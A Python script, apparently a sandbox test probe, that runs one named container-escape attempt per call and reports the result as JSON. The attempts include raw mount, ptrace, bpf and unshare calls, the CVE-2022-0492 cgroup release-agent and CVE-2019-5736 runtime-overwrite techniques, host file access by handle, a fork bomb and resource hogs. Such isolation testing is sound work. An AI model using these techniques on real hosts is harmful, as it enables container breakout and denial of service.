"""Try to get out of a container: `attack.py NAME [WORD...]`, with one line of JSON as the answer.

Runs under any Python 3 of the container, with nothing but the standard library, and makes its
system calls raw, so that no library is in the way. `succeeded` is whether it got what it should
not get; `errno` is what the kernel said otherwise. Nothing is ever written where it would hurt:
a file that could be opened for writing is closed again.
"""

# Nearer to the system calls without paths that are objects.
# ruff: noqa: PTH101, PTH103, PTH110, PTH114, PTH115, PTH116, PTH118, PTH208

import ctypes
import errno
import fcntl
import json
import os
import signal
import socket
import struct
import sys
import time

LIBC = ctypes.CDLL(None, use_errno=True)
LIBC.syscall.restype = ctypes.c_long
NUMBERS = {
    "x86_64": {
        "ptrace": 101, "pivot_root": 155, "mount": 165, "umount2": 166, "init_module": 175,
        "add_key": 248, "keyctl": 250, "unshare": 272, "perf_event_open": 298, "clone": 56,
        "name_to_handle_at": 303, "open_by_handle_at": 304, "setns": 308, "finit_module": 313,
        "bpf": 321, "userfaultfd": 323, "delete_module": 176, "kexec_load": 246, "reboot": 169,
        "socket": 41, "renameat2": 316, "settimeofday": 164, "swapon": 167, "acct": 163,
    },
    "aarch64": {
        "ptrace": 117, "pivot_root": 41, "mount": 40, "umount2": 39, "init_module": 105,
        "add_key": 217, "keyctl": 219, "unshare": 97, "perf_event_open": 241, "clone": 220,
        "name_to_handle_at": 264, "open_by_handle_at": 265, "setns": 268, "finit_module": 273,
        "bpf": 280, "userfaultfd": 282, "delete_module": 106, "kexec_load": 104, "reboot": 142,
        "socket": 198, "renameat2": 276, "settimeofday": 170, "swapon": 224, "acct": 89,
    },
}[os.uname().machine] | {
    "io_uring_setup": 425, "open_tree": 428, "move_mount": 429, "fsopen": 430, "clone3": 435,
    "mount_setattr": 442,
}  # fmt: skip
NEWNS, NEWUSER, NEWNET = 0x20000, 0x10000000, 0x40000000
AT_FDCWD = -100


class Refused(Exception):
    """The kernel said no."""


def call(name, *arguments):
    """One raw system call; numbers go as whole registers."""
    ctypes.set_errno(0)
    raw = [ctypes.c_long(each) if isinstance(each, int) else each for each in arguments]
    result = LIBC.syscall(ctypes.c_long(NUMBERS[name]), *raw)
    if result < 0:
        raise Refused(ctypes.get_errno())
    return result


def opened(path, flags):
    try:
        os.close(os.open(path, flags))
    except OSError as err:
        raise Refused(err.errno) from None


# --- mounts ---------------------------------------------------------------------------------


def mount():
    call("mount", b"none", b"/tmp", b"tmpfs", 0, None)


def remount_writable(path):
    """What is read-only is made writable again."""
    bind_remount = 0x1000 | 0x20
    call("mount", None, path.encode(), None, bind_remount, None)


def unmount(path):
    """What is laid over something is taken away."""
    call("umount2", path.encode(), 2)


def new_mount_api():
    call("fsopen", b"tmpfs", 0)


def clone_mount():
    call("open_tree", AT_FDCWD, b"/", 1)


def change_mount():
    attributes = struct.pack("<4Q", 0, 1, 0, 0)  # clear MOUNT_ATTR_RDONLY
    call("mount_setattr", AT_FDCWD, b"/proc", 0, attributes, 32)


def pivot_root():
    """As a container's runtime does it: a new root on a mount of its own."""
    try:
        call("unshare", NEWNS)
        call("mount", b"none", b"/", None, 0x4000 | 0x40000, None)
        call("mount", b"none", b"/tmp", b"tmpfs", 0, None)
    except Refused:
        pass  # then with the root that there is
    os.makedirs("/tmp/old", exist_ok=True)
    call("pivot_root", b"/tmp", b"/tmp/old")


# --- devices and files of the kernel ----------------------------------------------------------


def device(directory, kind, major, minor):
    """A node for a device of the host: to be made, and to be opened."""
    path = f"{directory}/node-{kind}-{major}-{minor}"
    file_type = {"b": 0o60000, "c": 0o20000}[kind]
    try:
        os.mknod(path, file_type | 0o666, os.makedev(int(major), int(minor)))
    except OSError as err:
        raise Refused(err.errno) from None
    opened(path, os.O_RDONLY | os.O_NONBLOCK)


def write(path):
    opened(path, os.O_WRONLY)


def read(path):
    """Whether there is anything in it."""
    try:
        with open(path, "rb", buffering=0) as file:
            content = file.read(1)
    except OSError as err:
        raise Refused(err.errno) from None
    if not content:
        raise Refused(0)


def write_sys():
    """Any file below /sys that can be opened for writing."""
    last = 0
    for directory, _, names in os.walk("/sys/kernel"):
        for name in names:
            path = os.path.join(directory, name)
            if os.path.islink(path) or not os.access(path, os.F_OK):
                continue
            try:
                opened(path, os.O_WRONLY | os.O_NONBLOCK)
            except Refused as no:
                last = no.args[0]
            else:
                return path
    raise Refused(last)


def write_cgroups():
    """Any limit of any control group, a release agent above all."""
    last = errno.ENOENT
    for directory, _, names in os.walk("/sys/fs/cgroup"):
        for name in names:
            if name in ("cgroup.procs", "release_agent", "notify_on_release", "memory.max"):
                try:
                    opened(os.path.join(directory, name), os.O_WRONLY)
                except Refused as no:
                    last = no.args[0]
                else:
                    return os.path.join(directory, name)
    raise Refused(last)


# --- system calls that reach beyond the container ---------------------------------------------


def trace(pid):
    """PTRACE_SEIZE somebody else's process; our own end lets go of it again."""
    call("ptrace", 0x4206, int(pid), 0, 0)


def trace_everyone():
    """Look for processes that are not in this container, by all the numbers there may be."""
    own = {int(each) for each in os.listdir("/proc") if each.isdigit()}
    for pid in range(1, 1 << 16):
        if pid in own:
            continue
        try:
            trace(pid)
        except Refused as no:
            if no.args[0] != errno.ESRCH:
                raise
        else:
            return pid
    raise Refused(errno.ESRCH)


def keyctl():
    return call("keyctl", 0, -3, 1)  # KEYCTL_GET_KEYRING_ID of the session's


def add_key():
    return call("add_key", b"user", b"swarm-escape-test", b"x", 1, -1)  # this thread's own ring


def bpf():
    attributes = struct.pack("<4I", 2, 4, 8, 1).ljust(72, b"\0")  # an array of one
    call("bpf", 0, attributes, len(attributes))


def perf_event_open():
    attributes = struct.pack("<IIQ", 1, 112, 0).ljust(112, b"\0")  # the software clock
    call("perf_event_open", attributes, 0, -1, -1, 0)


def unshare_user():
    call("unshare", NEWUSER)


def clone_user():
    child = call("clone", NEWUSER | signal.SIGCHLD, 0, 0, 0, 0)
    if child == 0:
        os._exit(0)
    os.waitpid(child, 0)


def clone3_user():
    arguments = struct.pack("<8Q", NEWUSER, 0, 0, 0, signal.SIGCHLD, 0, 0, 0)
    child = call("clone3", arguments, len(arguments))
    if child == 0:
        os._exit(0)
    os.waitpid(child, 0)


def release_agent():
    """CVE-2022-0492: a user namespace in which root may mount a cgroup hierarchy for writing."""
    call("unshare", NEWUSER | NEWNS | 0x02000000)
    call("mount", b"cgroup", b"/tmp", b"cgroup", 0, b"rdma")


def setns():
    descriptor = os.open("/proc/self/ns/uts", os.O_RDONLY)
    call("setns", descriptor, 0)


def open_by_handle(mount_point, handle_type, handle):
    """Open a file of the host that is not mounted here, by the number of its inode."""
    raw = bytes.fromhex(handle)
    whole = struct.pack("<Ii", len(raw), int(handle_type)) + raw
    descriptor = call("open_by_handle_at", os.open(mount_point, os.O_RDONLY), whole, os.O_RDONLY)
    return os.read(descriptor, 100).decode()


def init_module():
    call("init_module", b"\x7fELF", 4, b"")


def finit_module():
    call("finit_module", os.open("/bin/busybox", os.O_RDONLY), b"", 0)


def delete_module():
    call("delete_module", b"there_is_none", 0)


def kexec_load():
    call("kexec_load", 0, 0, None, 0xFFFF)  # no segments: unloads what is loaded


def reboot():
    call("reboot", 0xFEE1DEAD, 672274793, 0, None)  # LINUX_REBOOT_CMD_CAD_OFF


def settimeofday():
    call("settimeofday", None, None)  # nothing is set, but the right to is asked for


def swapon():
    call("swapon", b"/tmp/none", 0)


def acct():
    call("acct", None)


def io_uring():
    call("io_uring_setup", 1, bytes(120))


def userfaultfd():
    call("userfaultfd", 0)


def vsock():
    call("socket", 40, socket.SOCK_STREAM, 0)


def vsock_in_disguise():
    """The kernel reads the lower half of the argument only."""
    call("socket", 40 | 1 << 32, socket.SOCK_STREAM, 0)


# --- other containers and the host -----------------------------------------------------------


def set_uid():
    """Gain a user's rights by a program that has them."""
    child = os.fork()
    if child == 0:
        os.setgid(1000)
        os.setuid(1000)
        os.execv("/bin/set-uid", ["id", "-u"])
    os.waitpid(child, 0)


def root_of(pid, path):
    """Leave the root directory through that of another process."""
    read(f"/proc/{pid}/root{path}")


def root_of_from_chroot(pid, path, root):
    """The same after chroot(2) alone."""
    call("unshare", NEWNS)
    call("mount", b"none", b"/", None, 0x4000 | 0x40000, None)
    call("mount", b"proc", (root + "/proc").encode(), b"proc", 0, None)
    os.chroot(root)
    os.chdir("/")
    root_of(pid, path)


def write_elsewhere(path):
    """A file that is another container's."""
    opened(path, os.O_WRONLY)


# --- more than one's share ---------------------------------------------------------------------


def fork_bomb(wanted):
    children = []
    try:
        while len(children) < int(wanted):
            child = os.fork()
            if child == 0:
                signal.pause()
            children.append(child)
    except OSError as err:
        raise Refused(err.errno) from None
    finally:
        for child in children:
            os.kill(child, signal.SIGKILL)
            os.waitpid(child, 0)


def hog_memory(amount):
    hoard = bytearray(int(amount))
    hoard[::4096] = bytes(len(hoard[::4096]))


def hog_cpu(seconds):
    """Two processes that do nothing else; how much of a CPU they got."""
    started, before = time.process_time(), time.monotonic()
    end = before + float(seconds)
    child = os.fork()
    while time.monotonic() < end:
        pass
    if child == 0:
        os._exit(0)
    _, _, spent = os.wait4(child, 0)
    used = time.process_time() - started + spent.ru_utime + spent.ru_stime
    return used / (time.monotonic() - before)


# --- the runtime's own executable (CVE-2019-5736) -----------------------------------------------


def keep_own_executable(*second_stage):
    """First stage, run as /proc/self/exe: hold on to the file, and become another program."""
    descriptor = os.open("/proc/self/exe", os.O_RDONLY)
    os.set_inheritable(descriptor, True)
    found = os.readlink("/proc/self/exe")
    program = [each.replace("FD", str(descriptor)).replace("EXE", found) for each in second_stage]
    os.execv(program[0], program)


def overwrite_kept(descriptor, seconds):
    """Second stage: wait until nobody executes the file, then nothing keeps it from being written.

    While other containers run it stays busy. Then its mode is set to what it is, which needs
    the same permission, and nobody has to wait for. A sealed file in memory could be opened,
    but its content can never be changed.
    """
    if is_sealed(int(descriptor)):
        raise Refused(errno.EPERM)
    path, deadline = f"/proc/self/fd/{descriptor}", time.monotonic() + float(seconds)
    while True:
        try:
            opened(path, os.O_WRONLY)
        except Refused as no:
            if no.args[0] != errno.ETXTBSY:
                raise
            if time.monotonic() > deadline:
                break
        else:
            return os.readlink(path)
    try:
        os.chmod(path, os.stat(path).st_mode & 0o7777)
    except OSError as err:
        raise Refused(err.errno) from None
    return os.readlink(path)


def is_sealed(descriptor):
    """Whether its content can be neither written nor cut."""
    needed = fcntl.F_SEAL_SEAL | fcntl.F_SEAL_WRITE | fcntl.F_SEAL_SHRINK
    try:
        return fcntl.fcntl(descriptor, fcntl.F_GET_SEALS) & needed == needed
    except OSError:
        return False


def catch_visitors(seconds, ready):
    """Hold on to the executable of whoever comes into this container, and write to it."""
    deadline = time.monotonic() + float(seconds)
    mine = {inode_of(path) for path in ("/proc/self/exe", "/bin/busybox")}
    caught, last, seen = {}, 0, set()
    os.close(os.open(ready, os.O_CREAT))
    while time.monotonic() < deadline and not os.path.exists(f"{ready}.stop"):
        for pid in os.listdir("/proc"):
            if not pid.isdigit() or int(pid) in (1, os.getpid()):
                continue
            seen.add(pid)
            try:
                descriptor = os.open(f"/proc/{pid}/exe", os.O_RDONLY)
            except OSError as err:
                last = err.errno if err.errno == errno.EACCES else last  # else it is gone
                continue
            key = inode_of(descriptor)
            if key in caught or key in mine:
                os.close(descriptor)
            else:
                caught[key] = descriptor
                os.close(os.open(f"{ready}.caught", os.O_CREAT))
    for descriptor in caught.values():
        try:
            return overwrite_kept(descriptor, 0.5)
        except Refused as no:
            last = no.args[0]
    print(json.dumps({"seen": len(seen), "caught": len(caught)}))
    raise Refused(last)


def inode_of(file):
    status = os.stat(file)
    return status.st_dev, status.st_ino


# --- races -----------------------------------------------------------------------------------


def swap_for_ever(one, other):
    """Exchange two names as fast as the kernel can."""
    print("swapping", flush=True)
    while True:
        call("renameat2", AT_FDCWD, one.encode(), AT_FDCWD, other.encode(), 2)


def naive_bind(source, target):
    """Mount by path, as a careless runtime would; whether that went where `target` points."""
    call("unshare", NEWNS)
    call("mount", b"none", b"/", None, 0x4000 | 0x40000, None)
    call("mount", source.encode(), target.encode(), None, 0x1000, None)
    return os.listdir(os.path.realpath(target))


def leaked_directory(root):
    """A descriptor of the host's root survives into a chroot."""
    descriptor = os.open("/", os.O_DIRECTORY)
    call("unshare", NEWNS)
    call("mount", b"none", b"/", None, 0x4000 | 0x40000, None)
    call("mount", b"proc", (root + "/proc").encode(), b"proc", 0, None)
    os.chroot(root)
    os.chdir(f"/proc/self/fd/{descriptor}")
    return sorted(os.listdir("."))


def main():
    attack, words = globals()[sys.argv[1]], sys.argv[2:]
    try:
        found = attack(*words)
    except Refused as no:
        answer = {"succeeded": False, "errno": no.args[0]}
    else:
        answer = {"succeeded": True, "errno": 0, "found": found}
    print(json.dumps(answer), flush=True)


main()
